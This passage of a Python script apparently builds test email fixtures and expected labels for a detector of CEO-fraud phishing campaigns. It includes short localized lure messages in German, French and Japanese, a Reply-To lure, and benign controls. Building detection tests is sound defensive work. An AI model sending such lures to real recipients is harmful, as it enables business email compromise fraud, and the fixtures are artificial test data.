     rcv=received("a7-12.smtp-out.eu-west-1.amazonses.com (a7-12.smtp-out.eu-west-1.amazonses.com [198.51.100.12])",
                  "%s (Postfix)" % MX, "AB2", "Thu, 11 Jan 2024 18:05:01 +0900"))
camp("c08_localized_de_smtp2go.eml", ("Vorstand", "smtp@smtpmobile-server.de"), "HQ-Projekt: vertraulich",
     "Hallo Misaki,\n\nwir stehen kurz vor dem Abschluss einer Fusion und Übernahme (HQ-Projekt).\n"
     "Bitte stimmen Sie sich mit unserem Anwalt ab.\n",
     ["campaign.localized_ceo_fraud", "routing.bulk_service"],
     rcv=received("e2i511.smtp2go.com (e2i511.smtp2go.com [198.51.100.51])", "%s (Postfix)" % MX, "AB3",
                  "Thu, 11 Jan 2024 18:05:01 +0900"), note="German; SMTP2GO relay only")
camp("c09_localized_fr_brevo.eml", ("Président", "relay@ssl-board.fr"), "Projet HQ",
     "Bonjour Misaki,\n\nNous finalisons une opération de fusion-acquisition (Projet HQ).\n"
     "Merci de vous mettre en relation avec notre avocat.\n",
     ["campaign.localized_ceo_fraud", "routing.bulk_service"],
     extra=[("X-Mailin-EID", "NzQ4MjkxMw~~~")],
     rcv=received("smtp-relay.brevo.com (smtp-relay.brevo.com [198.51.100.77])", "%s (Postfix)" % MX, "AB4",
                  "Thu, 11 Jan 2024 18:05:01 +0900"), note="French; Brevo")
camp("c10_localized_ja_fastmail.eml", ("代表取締役 北風 博", "sent.mail@mobile-intern.jp"), "金融合併と買収の件",
     "伊藤さん\n\n現在、金融合併と買収を進めております（HQ Project）。弁護士と連絡を取ってください。\n",
     ["campaign.localized_ceo_fraud", "routing.bulk_service"],
     rcv=received("wout3-smtp.messagingengine.com (wout3-smtp.messagingengine.com [198.51.100.3])",
                  "%s (Postfix)" % MX, "AB5", "Thu, 11 Jan 2024 18:05:01 +0900"), note="Japanese; Fastmail relay")
camp("c11_localized_sendgrid_hdr_only.eml", ("CEO", "phone@phoneboard.net"), "HQ Project",
     LOC_EN, ["campaign.localized_ceo_fraud", "routing.bulk_service"],
     extra=[("X-SG-EID", "u001.AbCdEfGhIjKlMnOp")], note="X-SG-EID only")
# controls
camp("c13_benign_secure_newsletter.eml", ("SecureBank News", "news@secure-shopping.example"),
     "Your January newsletter", "Hello,\n\nHere is our January project update and new products.\n", [],
     ["campaign.cosmic_lynx", "campaign.localized_ceo_fraud"], rp="bounce@mail.securemail-news.example",
     note="control: 'secure' in a domain with unlisted words")
camp("c14_benign_relay_names.eml", ("中村 健", "ken.nakamura@" + PARTNER), "納期の件",
     "伊藤様\n\n納期の件、承知しました。\n", [], ["routing.bulk_service", "campaign.cosmic_lynx"],
     rcv=received("smtp-relay.mail-gateway.umino-trading.co.jp (outbound-relay.umino-trading.co.jp [192.0.2.8])",
                  "%s (Postfix)" % MX, "AB7", "Thu, 11 Jan 2024 18:05:01 +0900"),
     note="control: normal relay names")
camp("c15_benign_ses_inbound.eml", ("中村 健", "ken.nakamura@" + PARTNER), "納期の件",
     "伊藤様\n\n納期の件、承知しました。\n", [], ["routing.bulk_service"],
     extra=[("X-SES-RECEIPT", "AEFBQUFBQUFBQUFFZ2tLMHpJ"), ("X-SES-Spam-Verdict", "PASS"),
            ("X-SES-Virus-Verdict", "PASS")],
     note="control: received by Amazon SES inbound / WorkMail (recipient side), not sent through SES")
camp("c16_benign_to_fastmail_user.eml", ("中村 健", "ken.nakamura@" + PARTNER), "Re: meeting",
     "See you.\n", [], ["routing.bulk_service"],
     rcv=("Received", "from mail.umino-trading.co.jp (mail.umino-trading.co.jp [192.0.2.60])\n\tby "
          "mx6.messagingengine.com (Postfix) with ESMTPS id AB8\n\tfor <misaki@fastmail.example>;\n\t"
          "Thu, 11 Jan 2024 18:05:01 +0900"), note="control: mail TO a Fastmail user")
camp("c17_localized_replyto_only_lure_de.eml", ("Hiroshi Kitakaze", "h.kitakaze@kitakaze-shoji-jp.example"),
     "Vertraulich: Fusion", "Hallo,\n\nBitte antworten Sie nur an meine sichere Adresse.\n",
     ["campaign.localized_ceo_fraud"], reply_to="<secure.mobile@phoneintern-ssl.com>",
     note="Reply-To only, local part secure.mobile")


if __name__ == "__main__":
    with open(os.path.join(OUT, "expected.json"), "w") as f:
        json.dump(CASES, f, indent=1, ensure_ascii=False)
    print(len(CASES), "cases")
